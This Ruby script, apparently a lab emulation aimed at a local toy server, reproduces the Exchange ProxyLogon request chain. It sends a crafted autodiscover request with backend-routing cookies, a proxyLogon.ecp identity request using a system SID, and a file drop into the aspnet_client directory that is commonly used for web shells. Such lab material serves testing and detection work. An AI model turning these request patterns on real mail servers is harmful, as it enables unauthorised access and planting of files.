# frozen_string_literal: true

# Lab request chain, Faraday edition. Only ever points at the local toy server (127.0.0.1).
require 'faraday'
require 'json'

module LabChain
  CHROME = '88.0.4324.190'
  AGENT = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/#{CHROME} Safari/537.36"
  DROP_DIR = '/aspnet_client/system_web/'
  DROP_FILE = "#{DROP_DIR}readme_91453.txt"
  TICKET = 1_843_073_522
  DOMAIN = 'lab.invalid'
  MAILBOX = "administrator@#{DOMAIN}"

  class Runner
    def initialize(port)
      @http = Faraday.new(url: "http://127.0.0.1:#{port}") do |f|
        f.options.timeout = 10
        f.adapter Faraday.default_adapter
      end
    end

    def browser(req)
      req.headers['User-Agent'] = AGENT
      req.headers['x-requested-with'] = 'XMLHttpRequest'
      req.headers['Accept'] = '*/*'
      req.headers['accept-language'] = 'en-US,en;q=0.9'
      req.headers['connection'] = 'close'
    end

    def routing_cookie
      target = "localhost@#{DOMAIN}/ews/exchange.asmx?a%3D~#{TICKET}"
      ['X-AnonResource=true', "X-AnonResource-Backend=#{DOMAIN}", "X-BEResource=#{target}"].join('; ')
    end

    def probe
      res = @http.get('/autodiscover/autodiscover.json') do |req|
        req.params['Pad'] = 'A' * 37
        req.params['Protocol'] = 'Autodiscoverv1'
        req.params['Email'] = "#{MAILBOX}/mapi/nspi"
        req.params['RequestId'] = '20200302-7720'
        browser(req)
        req.headers['cookie'] = routing_cookie
      end
      res.status < 500
    end

    def identity
      res = @http.post('/ecp/proxyLogon.ecp') do |req|
        req.headers['user-agent'] = AGENT
        req.headers['msexchlogonmailbox'] = 'S-1-5-20'
        req.headers['content-type'] = 'application/json'
        req.headers['X-BEResource'] = "localhost@#{DOMAIN}/ecp/proxyLogon.ecp"
        req.body = %({"mailbox": "#{MAILBOX}", "requestKind": "identity", "seq": 1})
      end
      who = res.status == 200 ? res.body.to_s.strip : ''
      who.empty? ? 'anonymous' : who
    end

    def drop(who)
      text = (1..3).map { |n| "note #{n} of 3 for #{who}" }.join("\n")
      @http.post(DROP_FILE) do |req|
        req.headers['user-agent'] = AGENT
        req.headers['X-Note-Path'] = DROP_FILE
        req.headers['Content-Type'] = 'text/plain'
        req.body = text
      end
    end

    def read_back
      res = @http.get(DROP_FILE) { |req| browser(req) }
      res.status == 404 ? 0 : res.body.to_s.bytesize
    end
  end
end

runner = LabChain::Runner.new((ARGV[0] || 8080).to_i)
exit 1 unless runner.probe
who = runner.identity
runner.drop(who)
puts runner.read_back
